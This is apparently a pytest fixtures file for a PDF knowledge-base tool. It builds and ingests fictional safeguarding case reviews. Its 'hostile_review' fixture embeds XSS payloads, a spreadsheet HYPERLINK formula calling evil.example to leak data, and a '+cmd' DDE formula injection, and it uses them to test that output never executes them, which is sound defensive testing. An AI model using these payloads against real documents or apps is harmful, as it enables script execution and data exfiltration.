"""Fixtures: report PDFs made with reportlab, and stores in temporary folders on the real stack."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from pdfs import build_report, child_s_review  # noqa: E402
from servers import chroma_run  # noqa: E402

from kb import KnowledgeBase, Settings  # noqa: E402

REPO = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="session")
def child_s_pdf(tmp_path_factory) -> Path:
    return build_report(tmp_path_factory.mktemp("pdf") / "child-s.pdf", child_s_review())


@pytest.fixture
def make_kb(tmp_path):
    """Open a knowledge base in a fresh folder (a catalogue CSV and a Chroma server URL may be given)."""

    def make(name: str = "kb", catalogue: Path | None = None, chroma_url: str | None = None) -> KnowledgeBase:
        return KnowledgeBase(Settings(home=tmp_path / name, catalogue=catalogue or tmp_path / "none.csv",
                                      chroma_url=chroma_url))

    return make


@pytest.fixture(scope="session")
def chroma_server(tmp_path_factory):
    """One `chroma run` server for the session; each test takes a collection of its own on it."""
    with chroma_run(tmp_path_factory.mktemp("chroma-server") / "data") as url:
        yield url


def new_collection(server_url: str) -> str:
    return f"{server_url}/?collection=t{uuid.uuid4().hex[:16]}"


@pytest.fixture(params=["embedded", "server"])
def chroma_url(request) -> str | None:
    """Run a test in both modes: None (the store's embedded index), then a fresh collection on a Chroma server."""
    if request.param == "embedded":
        return None
    return new_collection(request.getfixturevalue("chroma_server"))


def url_env(chroma_url: str | None) -> dict:
    """The environment that points `scrkb` in a subprocess at the same index."""
    return {"SCRKB_CHROMA_URL": chroma_url} if chroma_url else {}


def ingested_store(home: Path, pdfs: list[Path], catalogue: Path | None = None,
                   chroma_url: str | None = None) -> KnowledgeBase:
    """A store under `home` holding these PDFs, every one of them ingested."""
    from ingest import ingest_paths

    kb = KnowledgeBase(Settings(home=home / "kb", catalogue=catalogue or home / "none.csv", chroma_url=chroma_url))
    report = ingest_paths(kb, pdfs)
    assert report.ingested == len(pdfs) and not report.failed, report.failed
    return kb


def passage_id(kb: KnowledgeBase, starts: str) -> str:
    """The id of the stored passage whose text starts so."""
    for document in kb.documents():
        for p in kb.passages(document.doc_id):
            if p.text.startswith(starts):
                return p.passage_id
    raise AssertionError(f"no passage starts with {starts!r}")


def _ingest_child_s(tmp_path_factory, child_s_pdf, chroma_url: str | None = None) -> KnowledgeBase:
    return ingested_store(tmp_path_factory.mktemp("store"), [child_s_pdf], chroma_url=chroma_url)


@pytest.fixture(scope="session")
def ingested(tmp_path_factory, child_s_pdf):
    """A store holding the Child S review, built once for read-only tests."""
    return _ingest_child_s(tmp_path_factory, child_s_pdf)


@pytest.fixture(scope="session")
def ingested_on_server(tmp_path_factory, child_s_pdf, chroma_server):
    """The same store with its vectors on the Chroma server."""
    return _ingest_child_s(tmp_path_factory, child_s_pdf, new_collection(chroma_server))


@pytest.fixture(params=["embedded", "server"])
def ingested_each_way(request) -> KnowledgeBase:
    """The Child S store, once with its embedded index and once through the Chroma server."""
    return request.getfixturevalue("ingested" if request.param == "embedded" else "ingested_on_server")


def run_cli(*args: str, home: Path, check: bool = True, env: dict | None = None,
            input: str | None = None) -> subprocess.CompletedProcess:
    """Run `scrkb` in a new process, as a user would (`input` is typed on its stdin)."""
    scrkb = shutil.which("scrkb", path=os.path.dirname(sys.executable)) or "scrkb"
    full_env = {**os.environ, "SCRKB_HOME": str(home), **(env or {})}
    result = subprocess.run([scrkb, *args], capture_output=True, text=True, env=full_env, timeout=600, input=input)
    if check and result.returncode != 0:
        raise AssertionError(f"scrkb {' '.join(args)} exited {result.returncode}:\n{result.stderr}")
    return result


@pytest.fixture(scope="session")
def sample_kb(tmp_path_factory):
    """The shipped sample corpus, ingested once with the shipped catalogue."""
    from ingest import ingest_paths

    home = tmp_path_factory.mktemp("sample")
    kb = KnowledgeBase(Settings(home=home / "kb", catalogue=REPO / "corpora" / "catalogue.csv"))
    report = ingest_paths(kb, [REPO / "corpora" / "sample"])
    assert not report.failed, report.failed
    return kb


SCRIPT = "<script>alert('pdf')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak","Open")'


def hostile_review():
    """A report whose title and text hold markup and spreadsheet formulas: pages show them, never run them."""
    from pdfs import Heading, Para, ReportSpec

    return ReportSpec(
        title=f"{FORMULA} Serious Case Review: Child Z {SCRIPT}", header="Serious Case Review: Child Z",
        body=[
            Heading(f"{FORMULA} Serious Case Review: Child Z", 18),
            Para(["Eastfold Safeguarding Children Partnership. Published June 2020."]),
            Heading("3. Analysis"),
            Para([f"3.1 The referral form read {SCRIPT} and <img src=x onerror=alert(2)>; the",
                  "school nurse's concern about neglect of Child Z was never passed to children's social care,",
                  "and information sharing between the police and the health visitor failed."]),
            Para([f"{FORMULA} @SUM(1+1) +cmd|' /C calc'!A0 -2+3 was written in the case notes by the",
                  "social worker, who did not share the concern about neglect with the school."]),
        ],
    )


@pytest.fixture(scope="session")
def hostile_kb(tmp_path_factory, child_s_pdf):
    """Child S and the hostile Child Z review, ingested once for the security tests."""
    home = tmp_path_factory.mktemp("hostile")
    return ingested_store(home, [child_s_pdf, build_report(home / "child-z.pdf", hostile_review())])
